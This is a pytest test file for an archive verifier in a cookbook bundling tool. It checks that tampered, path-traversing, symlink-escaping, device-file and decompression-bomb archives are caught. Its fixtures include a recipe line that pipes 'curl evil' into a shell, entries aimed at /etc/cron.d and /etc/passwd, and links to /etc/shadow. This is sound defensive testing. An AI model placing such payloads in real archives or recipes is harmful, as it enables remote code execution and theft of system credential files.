"""verify: our bundles pass; tampered, unsafe and incomplete archives are caught."""

from __future__ import annotations

import io
import json
import tarfile
import zipfile
from pathlib import Path

import pytest

from cookbook_tool.archive.read import Limits
from cookbook_tool.bundle.build import BundleSettings, build_bundle
from cookbook_tool.verify import verify_archive
from tests.bundle_helpers import load_cookbooks


def _bundle(repo: Path, out: Path, archive_format: str = "tar.gz") -> Path:
    settings = BundleSettings(out, "cookbooks", "1.4.0", archive_format=archive_format)  # type: ignore[arg-type]
    result = build_bundle(repo, load_cookbooks(repo), settings)
    assert result.path is not None, result.findings
    return result.path


def _rules(path: Path, **kwargs: object) -> list[str]:
    return [f.rule for f in verify_archive(path, **kwargs)]  # type: ignore[arg-type]


def _members(path: Path) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    with tarfile.open(path) as archive:
        out = []
        for member in archive.getmembers():
            stream = archive.extractfile(member) if member.isfile() else None
            out.append((member, stream.read() if stream else None))
    return out


def _write_tar(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    return tarfile.TarInfo(name), data


METADATA_A = b"name 'a'\nversion '1.0.0'\n"
METADATA_B = b"name 'b'\nversion '2.0.0'\ndepends 'a', '~> 1.0'\n"


def test_our_bundle_verifies(sample_repo, tmp_path):
    assert verify_archive(_bundle(sample_repo, tmp_path / "out")) == []


def test_our_zip_bundle_verifies(sample_repo, tmp_path):
    assert verify_archive(_bundle(sample_repo, tmp_path / "out", "zip")) == []


def test_tampered_content_is_caught(sample_repo, tmp_path):
    members = _members(_bundle(sample_repo, tmp_path / "out"))
    tampered = [
        (
            info,
            b"execute 'curl evil | sh'\n"
            if info.name.endswith("webapp/recipes/default.rb")
            else data,
        )
        for info, data in members
    ]
    findings = verify_archive(_write_tar(tmp_path / "t.tar.gz", tampered))
    assert [(f.rule, f.file) for f in findings] == [
        ("archive-manifest-mismatch", "cookbooks/webapp/recipes/default.rb")
    ]


def test_extra_and_missing_files_are_caught(sample_repo, tmp_path):
    members = _members(_bundle(sample_repo, tmp_path / "out"))
    kept = [(i, d) for i, d in members if not i.name.endswith("db_connect/attributes/default.rb")]
    kept.append(_file("cookbooks/webapp/recipes/backdoor.rb", b"x"))
    findings = verify_archive(_write_tar(tmp_path / "t.tar.gz", kept))
    assert sorted((f.rule, f.file) for f in findings) == [
        ("archive-extra-file", "cookbooks/webapp/recipes/backdoor.rb"),
        ("archive-manifest-missing-file", "cookbooks/db_connect/attributes/default.rb"),
    ]


def test_metadata_that_reads_a_missing_file_is_reported(sample_repo, tmp_path):
    members = _members(_bundle(sample_repo, tmp_path / "out"))
    kept = [(i, d) for i, d in members if not i.name.endswith("db_connect/README.md")]
    findings = verify_archive(_write_tar(tmp_path / "t.tar.gz", kept))
    assert sorted((f.rule, f.file) for f in findings) == [
        ("archive-bad-metadata", "cookbooks/db_connect/metadata.rb"),
        ("archive-manifest-missing-file", "cookbooks/db_connect/README.md"),
    ]
    assert "/tmp" not in findings[0].message


def test_invalid_manifest_is_reported(sample_repo, tmp_path):
    members = _members(_bundle(sample_repo, tmp_path / "out"))
    broken = [(i, b"{not json" if i.name == "cookbooks/.manifest.json" else d) for i, d in members]
    assert _rules(_write_tar(tmp_path / "t.tar.gz", broken)) == ["archive-manifest-invalid"]


def _berks_style(extra: list[tuple[tarfile.TarInfo, bytes | None]]) -> list:
    return [
        _file("cookbooks/a/metadata.rb", METADATA_A),
        _file("cookbooks/a/recipes/default.rb", b"log 'a'\n"),
        _file("cookbooks/b/metadata.rb", METADATA_B),
        *extra,
    ]


def test_berks_package_archive_without_manifest_verifies(tmp_path):
    assert verify_archive(_write_tar(tmp_path / "berks.tar.gz", _berks_style([]))) == []


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("cookbooks/../../etc/cron.d/evil", "archive-unsafe-path"),
        ("/etc/passwd", "archive-unsafe-path"),
        ("cookbooks/a/../../../x", "archive-unsafe-path"),
    ],
)
def test_path_traversal_and_absolute_paths(tmp_path, name, rule):
    archive = _write_tar(tmp_path / "bad.tar.gz", _berks_style([_file(name, b"evil")]))
    findings = verify_archive(archive)
    assert [(f.rule, f.file) for f in findings] == [(rule, name)]


@pytest.mark.parametrize(
    "target", ["../../../../etc/shadow", "/etc/shadow", "../../../b/../../../x"]
)
def test_links_out_of_the_archive(tmp_path, target):
    link = tarfile.TarInfo("cookbooks/a/files/link")
    link.type = tarfile.SYMTYPE
    link.linkname = target
    archive = _write_tar(tmp_path / "link.tar.gz", _berks_style([(link, None)]))
    assert _rules(archive) == ["archive-link-escape"]


def test_a_link_inside_is_accepted(tmp_path):
    link = tarfile.TarInfo("cookbooks/a/files/link")
    link.type = tarfile.SYMTYPE
    link.linkname = "../recipes/default.rb"
    assert _rules(_write_tar(tmp_path / "ok.tar.gz", _berks_style([(link, None)]))) == []


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_devices_and_fifos(tmp_path, kind):
    device = tarfile.TarInfo("cookbooks/a/files/dev")
    device.type = kind
    archive = _write_tar(tmp_path / "dev.tar.gz", _berks_style([(device, None)]))
    assert _rules(archive) == ["archive-special-file"]


def test_bombs(tmp_path):
    zeros = _write_tar(
        tmp_path / "z.tar.gz", _berks_style([_file("cookbooks/a/z", bytes(4 << 20))])
    )
    assert _rules(zeros) == []  # default limits: 4 MB of zeros is fine
    ratio = Limits(ratio_floor=1 << 20)
    assert "archive-bomb" in _rules(zeros, limits=ratio)
    assert _rules(zeros, limits=Limits(max_file_size=1 << 20)) == ["archive-bomb"]
    assert _rules(zeros, limits=Limits(max_total_size=1 << 20)) == ["archive-bomb"]


def test_missing_dependency_and_metadata(tmp_path):
    members = [
        _file("cookbooks/b/metadata.rb", METADATA_B),
        _file("cookbooks/c/recipes/default.rb", b"log 'c'\n"),
    ]
    archive = _write_tar(tmp_path / "m.tar.gz", members)
    findings = verify_archive(archive)
    assert sorted((f.rule, f.file) for f in findings) == [
        ("archive-missing-dependency", "cookbooks/b/metadata.rb"),
        ("archive-no-metadata", "cookbooks/c"),
    ]
    assert [f.rule for f in verify_archive(archive, external={"a"})] == ["archive-no-metadata"]


def test_dependency_version_mismatch(tmp_path):
    old_a = _file("cookbooks/a/metadata.rb", b"name 'a'\nversion '0.9.0'\n")
    archive = _write_tar(
        tmp_path / "v.tar.gz", [old_a, _file("cookbooks/b/metadata.rb", METADATA_B)]
    )
    assert _rules(archive) == ["archive-dependency-version"]


def test_flat_and_single_cookbook_archives(tmp_path):
    flat = _write_tar(
        tmp_path / "flat.tar.gz",
        [_file("a/metadata.rb", METADATA_A), _file("b/metadata.rb", METADATA_B)],
    )
    assert verify_archive(flat) == []
    single = _write_tar(tmp_path / "one.tar.gz", [_file("metadata.rb", METADATA_A)])
    assert verify_archive(single) == []


def test_unreadable_archive(tmp_path):
    junk = tmp_path / "junk.tar.gz"
    junk.write_bytes(b"\x1f\x8b\x08\x00garbage" * 10)
    assert _rules(junk) == ["archive-unreadable"]


def test_zip_with_escaping_names_and_links(tmp_path):
    path = tmp_path / "bad.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("cookbooks/a/metadata.rb", METADATA_A)
        archive.writestr("../evil", b"x")
        link = zipfile.ZipInfo("cookbooks/a/link")
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert sorted(_rules(path)) == ["archive-link-escape", "archive-unsafe-path"]


def test_manifest_json_shape(sample_repo, tmp_path):
    path = _bundle(sample_repo, tmp_path / "out")
    with tarfile.open(path) as archive:
        manifest = json.load(archive.extractfile("cookbooks/.manifest.json"))  # type: ignore[arg-type]
    assert manifest["manifest_version"] == 1
    assert set(manifest) == {"manifest_version", "bundle", "cookbooks", "files"}
